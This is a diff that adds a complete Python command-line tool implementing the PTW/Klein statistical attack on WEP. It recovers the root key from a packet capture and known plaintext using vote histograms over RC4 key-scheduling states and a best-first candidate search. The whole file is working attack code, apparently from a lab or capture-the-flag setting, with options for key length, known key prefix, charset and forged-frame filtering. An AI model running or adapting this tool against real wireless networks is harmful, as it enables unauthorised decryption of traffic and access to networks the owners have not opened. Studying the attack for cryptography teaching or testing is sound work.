@@ -0,0 +1,208 @@
+#!/usr/bin/env python3
+import argparse
+import time
+from typing import Callable, Iterator, Optional
+import numpy as np
+from Crypto.Cipher import ARC4
+from keystore import keystreams
+from rc4search import ksa_rounds
+
+# ---------------------------
+# PTW statistical WEP key recovery
+# ---------------------------
+# The RC4 key of a WEP frame is IV (3 bytes) + root key. Knowing the IV and
+# any known prefix of the root key, the KSA state S_t after t = 3 + len(prefix)
+# rounds is computable per frame, and (Klein / PTW) the sums of the unknown
+# key bytes satisfy, noticeably more often than 1/256:
+#   sigma_i = K[t] + ... + K[i] = S_t^-1[i - X[i-1]] - (j_t + S_t[t] + ... + S_t[i])
+# where X is the frame's keystream. Every frame votes once per unknown byte;
+# the votes are NumPy histograms, and the key is searched best-first over
+# the highest-voted sums, each candidate verified against a few keystreams
+# sampled uniformly from the whole capture (any one frame may be forged).
+
+SAMPLES = 8 # (iv, keystream) pairs kept to verify candidate keys with
+
+class Votes:
+    """
+    PTW vote histograms for the `key_len - len(prefix)` unknown root key bytes.
+    """
+
+    def __init__(self, key_len: int = 13, prefix: bytes = b''):
+        self.key_len: int = key_len
+        self.prefix: bytes = prefix
+        self.start: int = 3 + len(prefix)           # first unknown RC4 key index
+        self.unknown: int = key_len - len(prefix)
+        self.hist = np.zeros((self.unknown, 256), dtype=np.int64) # hist[k][sigma] for key index start + k
+        self.frames: int = 0
+        self.samples: list[tuple[bytes, bytes]] = []        # (iv, keystream) pairs to verify keys with
+        self._rng = np.random.default_rng(0)                # picks the samples, see add()
+
+    def add(self, ivs: np.ndarray, streams: np.ndarray):
+        """
+        Vote with frames given as IV indexes (int [n]) and keystreams
+        (uint8 [n, >= 3 + key_len - 1]).
+        """
+        count: int = len(ivs)
+        if not count:
+            return
+        # reservoir sampling (algorithm R) over every frame seen so far, so the
+        # samples are spread over the whole capture, not its first chunk:
+        # frame n replaces a random sample with probability SAMPLES / (n + 1)
+        fill: int = min(SAMPLES - len(self.samples), count)
+        for row in range(fill):
+            self.samples.append((int(ivs[row]).to_bytes(3, 'big'), streams[row].tobytes()))
+        rows = np.arange(fill, count)
+        slots = self._rng.integers(0, self.frames + rows + 1)
+        for row, slot in zip(rows[slots < SAMPLES], slots[slots < SAMPLES]):
+            self.samples[slot] = (int(ivs[row]).to_bytes(3, 'big'), streams[row].tobytes())
+        self.frames += count
+        start: int = self.start
+
+        keys = np.empty((count, start), dtype=np.uint8)
+        keys[:, 0] = ivs >> 16
+        keys[:, 1] = ivs >> 8
+        keys[:, 2] = ivs
+        keys[:, 3:] = np.frombuffer(self.prefix, dtype=np.uint8)
+        state, j = ksa_rounds(keys, start)
+
+        rows = np.arange(count)[:, None]
+        inverse = np.empty_like(state)
+        inverse[rows, state] = np.arange(256, dtype=np.uint8)
+        # j_t + S_t[t] + ... + S_t[i] for every unknown key index i
+        sums = j[:, None] + np.cumsum(state[:, start:start + self.unknown], axis=1, dtype=np.intp)
+        for k in range(self.unknown):
+            i: int = start + k
+            out = (i - streams[:, i - 1].astype(np.intp)) & 255
+            sigma = (inverse[np.arange(count), out].astype(np.intp) - sums[:, k]) & 255
+            self.hist[k] += np.bincount(sigma, minlength=256)
+
+    def ranked(self, k: int, top: int = 5) -> list[tuple[int, int]]:
+        """
+        The `top` (sigma, votes) pairs for unknown byte k, most votes first.
+        """
+        order = np.argsort(self.hist[k], kind='stable')[::-1][:top]
+        return [(int(s), int(self.hist[k][s])) for s in order]
+
+    def verify(self, root_key: bytes) -> bool:
+        """
+        Whether the key reproduces the keystreams of a majority of the
+        sampled frames, so a forged frame among them cannot veto the right key.
+        """
+        need: int = len(self.samples) // 2 + 1
+        misses: int = 0
+        for iv, stream in self.samples:
+            if ARC4.new(iv + root_key).encrypt(b'\x00' * len(stream)) == stream:
+                need -= 1
+                if need == 0:
+                    return True
+            else:
+                misses += 1
+                if misses > len(self.samples) - need: # too many misses for a majority
+                    return False
+        return False
+
+    def candidates(self, depth: Optional[int] = None, charset: Optional[bytes] = None) -> Iterator[bytes]:
+        """
+        Root keys in best-first order: by the sum over unknown bytes of the
+        rank of the chosen value among that byte's votes, so every byte at
+        its most voted value comes first, then one byte at its second best,
+        and so on. A true byte ranked 13th still comes up after a few
+        thousand keys. Values are restricted to `charset` if given (e.g.
+        when the key is known to be printable) and to the `depth` best per byte.
+        """
+        allowed = np.ones(256, dtype=bool)
+        if charset is not None:
+            allowed[:] = False
+            allowed[np.frombuffer(charset, dtype=np.uint8)] = True
+        width: int = int(allowed.sum()) if depth is None else min(depth, int(allowed.sum()))
+        unknown = bytearray(self.unknown)
+
+        def walk(k: int, previous: int, budget: int) -> Iterator[bytes]:
+            if k == self.unknown:
+                yield self.prefix + bytes(unknown)
+                return
+            # votes for each key byte value c, given the sum so far: hist[k][previous + c]
+            votes = np.roll(self.hist[k], -previous)
+            votes = np.where(allowed, votes, -1)
+            order = np.argsort(votes, kind='stable')[::-1][:min(width, budget + 1)]
+            later: int = (width - 1) * (self.unknown - k - 1) # most rank the later bytes can take
+            for rank in range(max(0, budget - later), len(order)):
+                unknown[k] = int(order[rank])
+                yield from walk(k + 1, (previous + unknown[k]) & 255, budget - rank)
+
+        for total in range((width - 1) * self.unknown + 1):
+            yield from walk(0, 0, total)
+
+    def recover(self, depth: Optional[int] = None, charset: Optional[bytes] = None, limit: int = 1 << 20) -> Optional[bytes]:
+        """
+        First of at most `limit` candidates that reproduces the sampled keystreams.
+        """
+        if not self.samples:
+            return None
+        for tried, key in enumerate(self.candidates(depth, charset)):
+            if tried >= limit:
+                break
+            if self.verify(key):
+                return key
+        return None
+
+    def report(self, top: int = 5):
+        for k in range(self.unknown):
+            ranked: str = '  '.join(f'{s:02x}:{v}' for s, v in self.ranked(k, top))
+            print(f"  sigma[{self.start + k:2d}] {ranked}")
+
+
+def collect(pcap_path: str, plaintext: bytes, src: Optional[str], key_len: int, prefix: bytes) -> Votes:
+    """
+    Vote with every frame of the capture (from `src`) in one streaming pass.
+    """
+    votes = Votes(key_len, prefix)
+    for ivs, streams in keystreams(pcap_path, plaintext, src):
+        votes.add(ivs, streams)
+    return votes
+
+def recover_key(
+    pcap_path: str,
+    plaintext: bytes,
+    src: Optional[str] = None,
+    key_len: int = 13,
+    prefix: bytes = b'',
+    charset: Optional[bytes] = None,
+    depth: Optional[int] = None,
+    limit: int = 1 << 20,
+    verify: Optional[Callable[[bytes], bool]] = None,
+    report: bool = True,
+) -> Optional[bytes]:
+    """
+    Collect votes from a capture and return the root key, or None after
+    `limit` candidates. An extra `verify` has the final say on a key that
+    reproduces the capture's keystreams.
+    """
+    began: float = time.time()
+    votes: Votes = collect(pcap_path, plaintext, src, key_len, prefix)
+    if report:
+        print(f"{votes.frames} frames voted in {time.time() - began:.2f}s; top sums (hex:votes):")
+        votes.report()
+    key: Optional[bytes] = votes.recover(depth, charset, limit)
+    if key is not None and verify is not None and not verify(key):
+        return None
+    return key
+
+
+if __name__ == '__main__':
+    parser = argparse.ArgumentParser(description="PTW statistical WEP key recovery")
+    parser.add_argument('pcap')
+    parser.add_argument('--plain', default='plain.txt', help='file holding the known plaintext')
+    parser.add_argument('--src', default=None, help='only frames from this MAC (pass the real station on captures with forged frames)')
+    parser.add_argument('--key-len', type=int, default=13, help='root key length (13 for WEP-104, 5 for WEP-40)')
+    parser.add_argument('--prefix', default='', help='known start of the root key, e.g. nasa2025')
+    parser.add_argument('--charset', default=None, help='bytes the unknown key bytes are drawn from')
+    parser.add_argument('--depth', type=int, default=None, help='most voted values tried per unknown byte (default: all)')
+    parser.add_argument('--limit', type=int, default=1 << 20, help='keys to verify before giving up')
+    args = parser.parse_args()
+
+    with open(args.plain, 'rb') as f:
+        plain: bytes = f.read()
+    key: Optional[bytes] = recover_key(args.pcap, plain, args.src, args.key_len, args.prefix.encode(),
+                                       args.charset.encode() if args.charset else None, args.depth, args.limit)
+    print(f"KEY: {key.decode(errors='replace')} ({key.hex()})" if key is not None else "key not recovered")